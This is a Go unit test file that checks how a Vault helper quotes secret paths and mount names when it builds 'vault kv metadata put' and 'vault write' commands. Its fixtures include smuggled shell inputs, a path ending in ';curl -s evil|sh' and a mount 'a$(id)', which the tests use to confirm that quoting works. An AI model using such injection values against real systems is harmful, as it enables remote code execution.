package vault

import (
	"testing"

	"github.com/stretchr/testify/require"

	"rollcall/internal/credential"
)

// Whoever may write the metadata of a secret names it, too.
func TestTheCommandThatKeepsASecretRunsNothingThatItsNameSays(t *testing.T) {
	k := Keeping{BySecret: true, ByMount: true}
	require.Equal(t, "`vault kv metadata put -mount=kv -delete-version-after=0s 'esg/x;curl -s evil|sh'`, and "+
		"`vault write kv/config delete_version_after=0s`, which is about every secret there", k.Mend(credential.Path{Mount: "kv", Path: "esg/x;curl -s evil|sh"}))
	require.Contains(t, k.Mend(credential.Path{Mount: "a$(id)", Path: "-x"}), "-mount='a$(id)' -delete-version-after=0s -- -x`")
	require.Contains(t, k.Mend(credential.Path{Mount: "a$(id)", Path: "x"}), "`vault write 'a$(id)/config' ")
}
